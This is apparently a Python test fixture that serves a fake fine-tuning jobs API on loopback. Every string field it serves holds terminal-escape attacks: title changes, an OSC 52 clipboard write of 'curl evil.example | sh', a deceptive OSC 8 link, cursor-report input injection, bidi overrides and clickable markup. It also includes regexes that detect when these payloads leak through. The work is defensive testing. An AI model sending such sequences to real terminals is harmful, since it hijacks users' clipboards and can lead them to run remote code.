"""A hostile workspace: job payloads whose every string is an attack on the terminal, served by a
real HTTP server on loopback.

Every string field (list items, details, events, integrations, repositories, classifier
targets, file names, error bodies) carries the text given to :func:`detail_payload`:
:data:`HOSTILE` by default, which holds every control class a server could send (C0, CSI, OSC
0/8/52, DCS, C1, bidi overrides, DEL, line separators) and markup that a careless renderer
would act on (``[/]``, ``[@click=app.cancel_job]``, ``[bold]``). :func:`find_leaks` names what
of it came through raw.
"""

from __future__ import annotations

import base64
import json
import re
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

__all__ = [
    "BIDI",
    "C1",
    "HOSTILE",
    "MARKUP",
    "HostileServer",
    "clipboard_writes",
    "deep_data",
    "detail_payload",
    "find_leaks",
    "hostile_server",
    "leak_report",
    "list_item",
    "osc8_targets",
]

ESC = "\x1b"
BEL = "\x07"
ST = f"{ESC}\\"
TITLE = f"{ESC}]0;pwned-title{BEL}{ESC}]2;pwned-title2{ST}"
"""OSC 0 and 2: set the terminal's title."""
CLIPBOARD = f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}"
"""OSC 52: write the user's clipboard."""
LINK = f"{ESC}]8;;https://evil.example/x{ST}click me{ESC}]8;;{ST}"
"""OSC 8: a hyperlink to somewhere else than it says."""
CSI = f"{ESC}[2J{ESC}[31mred{ESC}[0m{ESC}[6n"
"""CSI: clear the screen, colours, and a cursor position report (input injection)."""
DCS = f"{ESC}P1$qm{ST}{ESC}P+q544e{ST}"
"""DCS: status and termcap requests whose answers arrive as input."""
C1 = "\x9b31m\x9d0;c1-pwned-title\x9c\x90qdcs\x9c\x85"
"""The same through 8-bit C1 controls (CSI, OSC, ST, DCS, NEL)."""
BIDI = "\u202egnp.exe\u202c\u2066x\u2069\u200f"
"""Right-to-left override and isolates: text that reads other than it is."""
MARKUP = "nightly [/] run [@click=app.cancel_job]cancel[/] [bold]b[/bold] [link=file:///]"
"""Markup a renderer must never act on."""
OTHER = "\x00\x07\x08\r\x7f\u2028\u2029 tab\there\nnewline"
"""NUL, BEL, backspace, carriage return, DEL, line and paragraph separators, tab, newline."""
HOSTILE = f"x{TITLE}{CLIPBOARD}{LINK}{CSI}{DCS}{C1}{BIDI}{MARKUP}{OTHER}"
"""One string with all of the above."""

LEAK_PATTERNS: Mapping[str, re.Pattern[str]] = {
    "OSC with a server payload": re.compile(r"\x1b\][^\x07\x1b]*(pwned|evil\.example|Y3VybC)"),
    "OSC 52 from the server": re.compile(r"\x1b\]52;c;Y3VybC"),
    "OSC 8 to the server's link": re.compile(r"\x1b\]8;[^;]*;https://evil\.example"),
    "C1 control": re.compile("[\x80-\x9f]"),
    "bidi control": re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]"),
    "line separator": re.compile("[\u2028\u2029]"),
    "DCS": re.compile(r"\x1bP"),
    "cursor report request": re.compile(r"\x1b\[6n"),
}
"""What must never reach a terminal from a server (the app's own sequences do not match)."""


def find_leaks(output: str) -> list[str]:
    """The names of the leak patterns found in ``output`` (decoded terminal bytes)."""
    return [name for name, pattern in LEAK_PATTERNS.items() if pattern.search(output)]


def leak_report(output: str, context: int = 120) -> list[str]:
    """Each leak in ``output`` with what surrounds its first occurrence, to say who wrote it."""
    report = []
    for name, pattern in LEAK_PATTERNS.items():
        match = pattern.search(output)
        if match:
            around = output[max(0, match.start() - context) : match.end() + context]
            report.append(f"{name}: {around!r}")
    return report


def clipboard_writes(output: str) -> list[str]:
    """What every OSC 52 in ``output`` put on the clipboard, decoded."""
    found = re.findall(r"\x1b\]52;c;([A-Za-z0-9+/=]*)(?:\x07|\x1b\\)", output)
    return [base64.b64decode(value).decode("utf-8", "replace") for value in found]


def osc8_targets(output: str) -> list[str]:
    """The URLs of every OSC 8 hyperlink in ``output`` (empty closing links left out)."""
    return [url for url in re.findall(r"\x1b\]8;[^;\x07\x1b]*;([^\x07\x1b]*)", output) if url]


def deep_data(depth: int, leaf: object) -> dict[str, Any]:
    """``{"status": ..., "error": {"error": {... leaf}}}`` nested ``depth`` deep."""
    value: Any = leaf
    for _ in range(depth):
        value = {"error": value}
    return value  # type: ignore[no-any-return]


def detail_payload(
    job_id: str,
    text: str = HOSTILE,
    *,
    status: str = "RUNNING",
    job_type: str = "completion",
    created_at: int = 1_750_000_000,
    wandb_url: str | None = None,
    depth: int = 3,
    fine_tuned_model: str | None = None,
) -> dict[str, Any]:
    """A job detail in which every string the API leaves free is ``text``.

    ``status`` and ``job_type`` stay real (the job must still be a running completion job for
    the pane to show its progress) unless given as ``text`` too. Event ``data`` nests ``depth``
    deep; ``wandb_url`` defaults to ``text``.
    """
    t0 = created_at
    events = [
        {"name": text, "created_at": t0, "data": {"status": "QUEUED"}},
        {"name": "status-updated", "created_at": t0 + 5, "data": {"status": text}},
        {"name": text, "created_at": t0 + 10, "data": {"status": "RUNNING", "error": text}},
        {"name": "status-updated", "created_at": t0 + 11, "data": deep_data(depth, text)},
    ]
    checkpoints = [
        {
            "metrics": {
                "train_loss": 1.0 / step,
                "valid_loss": 1.2 / step,
                "valid_mean_token_accuracy": 2 ** (1.2 / step),
            },
            "step_number": step,
            "created_at": t0 + 20 + step,
        }
        for step in (30, 20, 10)
    ]
    payload: dict[str, Any] = {
        "id": job_id,
        "object": "job",
        "auto_start": True,
        "model": text,
        "status": status,
        "job_type": job_type,
        "created_at": t0,
        "modified_at": t0 + 10,
        "training_files": [f"{job_id}-train", text],
        "validation_files": [f"{job_id}-valid"],
        "hyperparameters": {"training_steps": 100, "learning_rate": 0.0001},
        "fine_tuned_model": text if fine_tuned_model is None else fine_tuned_model,
        "suffix": text,
        "integrations": [
            {
                "type": "wandb",
                "project": text,
                "name": text,
                "run_name": text,
                "url": text if wandb_url is None else wandb_url,
            },
            {"type": text, "endpoint": text, "nested": {"k": text}},
        ],
        "trained_tokens": None,
        "metadata": {
            "expected_duration_seconds": 600,
            "cost": 1.5,
            "cost_currency": text,
            "train_tokens_per_step": 100,
            "train_tokens": 10_000,
            "data_tokens": 5_000,
            "estimated_start_time": None,
        },
        "events": events,
        "checkpoints": checkpoints,
    }
    if job_type == "classifier":
        payload["classifier_targets"] = [
            {"name": text, "labels": [text, "ok", text], "weight": 1.0, "loss_function": text}
        ]
    else:
        payload["repositories"] = [
            {"type": "github", "name": text, "owner": text, "ref": text, "commit_id": text},
            {"type": text, "url": text},
        ]
    return payload


def list_item(detail: Mapping[str, Any]) -> dict[str, Any]:
    """The list endpoint's form of a detail: no events, checkpoints or targets."""
    hidden = ("events", "checkpoints", "classifier_targets")
    return {key: value for key, value in detail.items() if key not in hidden}


class HostileServer:
    """The state the handler serves from; tests change it while the server runs."""

    def __init__(
        self,
        details: list[dict[str, Any]],
        *,
        file_names: Mapping[str, str] | None = None,
        error_body: str = HOSTILE,
        fail_list_every: int = 0,
    ) -> None:
        self.details: dict[str, dict[str, Any]] = {d["id"]: d for d in details}
        """Job id -> its detail payload (newest first by ``created_at`` in the list)."""
        self.file_names: dict[str, str] = dict(file_names or {})
        """File id -> filename; other files answer 500 with the hostile error body."""
        self.error_body = error_body
        """What error responses carry, as FastAPI's ``detail``."""
        self.fail_list_every = fail_list_every
        """Every Nth list request answers 500 (0: never)."""
        self.list_requests = 0
        self.requests: list[str] = []
        """Every request line served (method and path)."""
        self.base_url = ""
        self._lock = threading.Lock()
        self._on_request: Callable[[HostileServer], None] | None = None

    def on_request(self, hook: Callable[[HostileServer], None]) -> None:
        """Run ``hook`` before each request is answered (to change the workspace over time)."""
        self._on_request = hook

    def answer(self, method: str, target: str) -> tuple[int, Any]:
        """The status and JSON body for one request."""
        with self._lock:
            self.requests.append(f"{method} {target}")
            if self._on_request is not None:
                self._on_request(self)
            parts = urlsplit(target)
            path = parts.path.rstrip("/")
            if method != "GET":
                return 403, {"detail": self.error_body}
            if path == "/v1/fine_tuning/jobs":
                self.list_requests += 1
                if self.fail_list_every and self.list_requests % self.fail_list_every == 0:
                    return 500, {"detail": f"upstream [/] overloaded {self.error_body}"}
                query = parse_qs(parts.query)
                page = int(query.get("page", ["0"])[0])
                size = int(query.get("page_size", ["100"])[0])
                ordered = sorted(self.details.values(), key=lambda d: -d["created_at"])
                chunk = ordered[page * size : (page + 1) * size]
                return 200, {
                    "object": "list",
                    "total": len(ordered),
                    "data": [list_item(d) for d in chunk],
                }
            if path.startswith("/v1/fine_tuning/jobs/"):
                job_id = path.rsplit("/", 1)[1]
                if job_id in self.details:
                    return 200, self.details[job_id]
                return 404, {"detail": self.error_body}
            if path.startswith("/v1/files/"):
                file_id = path.rsplit("/", 1)[1]
                if file_id in self.file_names:
                    return 200, {
                        "id": file_id,
                        "object": "file",
                        "bytes": 100,
                        "created_at": 1_750_000_000,
                        "filename": self.file_names[file_id],
                        "purpose": "fine-tune",
                    }
                return 500, {"detail": self.error_body}
            return 404, {"detail": self.error_body}


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self._reply()

    def do_POST(self) -> None:
        self._reply()

    def do_DELETE(self) -> None:
        self._reply()

    def _reply(self) -> None:
        status, body = self.server.state.answer(self.command, self.path)
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        return  # the test reads ``requests``; stderr stays quiet


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, state: HostileServer) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.state = state


@contextmanager
def hostile_server(state: HostileServer) -> Iterator[HostileServer]:
    """Serve ``state`` on a free loopback port (``state.base_url``) until the block ends."""
    server = _Server(state)
    state.base_url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, name="hostile-server", daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
